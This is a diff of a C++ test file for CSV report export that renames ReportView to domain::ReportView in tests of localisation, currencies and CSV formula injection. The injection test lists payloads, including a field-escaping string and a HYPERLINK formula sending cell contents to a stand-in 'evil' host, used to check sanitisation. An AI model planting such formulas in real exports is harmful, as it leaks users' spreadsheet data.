@@ -74,7 +74,7 @@ TEST_CASE("the CSV has a head, one row for each line and three for the sums, num
 TEST_CASE("the CSV of other languages has semicolons, decimal commas and heads in their words") {
     for (const char* language : {"ru", "fr", "kk", "uk"}) {
         INFO(language);
-        ReportView view = sample::sent_report();
+        domain::ReportView view = sample::sent_report();
         view.locale = language;
         view.lines[0].amount = 123456789;
         const std::string csv = report_csv(view, Audience::Client);
@@ -91,7 +91,7 @@ TEST_CASE("the CSV of other languages has semicolons, decimal commas and heads i
 }
 
 TEST_CASE("a currency without decimals has none in the CSV") {
-    ReportView view = sample::month(3, "ru", {"JPY", 0});
+    domain::ReportView view = sample::month(3, "ru", {"JPY", 0});
     const auto rows = cells_of(report_csv(view, Audience::Client), ';');
     CHECK(rows[6][14] == std::to_string(view.totals.total));
     CHECK(rows[6][15] == "JPY");
@@ -128,7 +128,7 @@ TEST_CASE("no text of a remote becomes a formula, whatever separator the spreads
                                                "x\";=1+1;\"",
                                                "=HYPERLINK(\"http://evil/?\"&A1,\"ok\")"};
     for (const std::string& payload : payloads) {
-        ReportView view = sample::sent_report();
+        domain::ReportView view = sample::sent_report();
         view.lines.resize(1);
         domain::Line& line = view.lines[0];
         line.task_title = line.work_type = line.project_name = line.reason = line.task_url =
@@ -146,7 +146,7 @@ TEST_CASE("no text of a remote becomes a formula, whatever separator the spreads
 }
 
 TEST_CASE("text that is harmless is left as it is") {
-    ReportView view = sample::sent_report();
+    domain::ReportView view = sample::sent_report();
     view.lines.resize(1);
     view.lines[0].task_title = "Checkout - step 2 (a+b = c), \"quick\"";
     const auto rows = cells_of(report_csv(view), ',');
@@ -154,7 +154,7 @@ TEST_CASE("text that is harmless is left as it is") {
 }
 
 TEST_CASE("the client's CSV has no references of ours (G22)") {
-    const ReportView view = sample::sent_report();
+    const domain::ReportView view = sample::sent_report();
     const std::string csv = report_csv(view, Audience::Client);
     CHECK(csv.find("_ref") == std::string::npos);
     CHECK(csv.find(":task:") == std::string::npos);
